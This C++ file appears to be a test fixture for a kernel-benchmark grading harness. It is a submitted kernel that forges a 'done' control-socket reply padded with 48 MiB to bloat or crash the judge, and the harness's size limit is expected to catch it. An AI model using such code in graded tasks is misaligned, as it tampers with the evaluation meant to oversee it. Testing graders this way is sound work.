// Exploit: tampering with harness state: a forged `done` reply with the right
// sequence number, padded with a 48 MiB string (under the 64 MiB frame limit),
// to bloat the judge's memory and the report, or to make the report too large
// to send so that the judge dies with it.
// Must be caught by: the per-reply size limit (64 KiB for everything but a
// profile): violation `harness_tamper`.
// Task: chain.
#include <kforge/kernel_abi.h>

#include "control_socket.h"

static unsigned g_calls = 0;
static unsigned char g_chunk[1 << 20];

extern "C" int kf_forward(const kf_tensor* in, int, kf_tensor* out, int, void*) {
  kf_chain(in, out);
  const unsigned seq = kf_seq_of_call(g_calls++);
  const uint32_t pad = 48u << 20;
  // {"type": "done", "seq": seq, "rc": 0, "self_ns": 1, "pad": <str32 of pad bytes>}
  unsigned char head[] = {0x85,
                          0xa4,
                          't',
                          'y',
                          'p',
                          'e',
                          0xa4,
                          'd',
                          'o',
                          'n',
                          'e',
                          0xa3,
                          's',
                          'e',
                          'q',
                          0xcd,
                          (unsigned char)(seq >> 8),
                          (unsigned char)seq,
                          0xa2,
                          'r',
                          'c',
                          0x00,
                          0xa7,
                          's',
                          'e',
                          'l',
                          'f',
                          '_',
                          'n',
                          's',
                          0x01,
                          0xa3,
                          'p',
                          'a',
                          'd',
                          0xdb,
                          (unsigned char)(pad >> 24),
                          (unsigned char)(pad >> 16),
                          (unsigned char)(pad >> 8),
                          (unsigned char)pad};
  unsigned char header[4];
  kf_frame_header(header, (uint32_t)sizeof(head) + pad);
  kf_control_write(header, sizeof(header));
  kf_control_write(head, sizeof(head));
  for (uint32_t i = 0; i < sizeof(g_chunk); ++i) g_chunk[i] = 'a';
  for (uint32_t sent = 0; sent < pad; sent += sizeof(g_chunk)) kf_control_write(g_chunk, sizeof(g_chunk));
  return 0;
}
